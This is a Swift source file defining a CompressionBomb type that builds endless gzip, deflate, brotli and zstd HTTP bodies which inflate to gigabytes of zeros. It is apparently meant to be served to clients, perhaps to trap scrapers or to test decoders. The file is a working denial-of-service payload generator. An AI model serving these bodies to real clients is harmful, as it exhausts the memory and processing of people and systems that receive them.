/// Endless zeros, of which few bytes are sent because of compression.
public enum CompressionBomb {
  /// A content coding, by which zeros are compressed.
  public enum Coding: String, CaseIterable, Sendable {
    case gzip, deflate, br, zstd
  }

  /// Returns a body of about `length` bytes that inflates to zeros.
  ///
  /// From 4 MB of gzip or deflate come 4.3 GB; the others need much less. The compressed stream has
  /// no end, because a client must not wait for one.
  public static func body(_ coding: Coding, length: Int) -> [UInt8] {
    let (start, repeated) = parts(of: coding)
    let count = max(0, length - start.count) / repeated.count
    if repeated == [0] { return start + [UInt8](repeating: 0, count: count) }
    var bytes = start
    bytes.reserveCapacity(length)
    for _ in 0..<count { bytes += repeated }
    return bytes
  }

  /// Returns the start of a stream, and the part that may follow any number of times.
  private static func parts(of coding: Coding) -> (start: [UInt8], repeated: [UInt8]) {
    // One block of Deflate (RFC 1951) whose code for "258 bytes, as the byte before" is one bit for
    // the length and one for the distance, both 0: each zero byte stands for 4 × 258 zeros.
    let deflate: [UInt8] = [
      0xEC, 0xC1, 0x01, 0x01, 0x00, 0x00, 0x00, 0x80, 0x90, 0xFE, 0xAF, 0xEE, 0x08, 0x0A,
    ]
    switch coding {
    case .gzip: return ([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + deflate, [0])
    case .deflate: return ([0x78, 0xDA] + deflate, [0])
    case .br:
      // Each group is one flushed piece of 16 MiB of zeros.
      return (
        [0xCF, 0xFF, 0xFF, 0x7F, 0x00, 0x24, 0x00, 0xE2, 0xB1, 0x40, 0x72, 0xEF, 0xFF, 0x0D],
        [0xFC, 0xFF, 0xFF, 0x07, 0x40, 0x02, 0x20, 0x0E, 0x0B, 0x40, 0xF7, 0xFE, 0xDF, 0x00]
      )
    case .zstd:
      // A frame (RFC 8878) with a window of 8 MiB, whose blocks repeat one byte 128 KiB times.
      let size = 128 << 10
      let header = UInt32(size) << 3 | 1 << 1
      let block: [UInt8] = [
        UInt8(header & 0xFF), UInt8(header >> 8 & 0xFF), UInt8(header >> 16 & 0xFF), 0,
      ]
      return ([0x28, 0xB5, 0x2F, 0xFD, 0x00, 13 << 3], block)
    }
  }
}
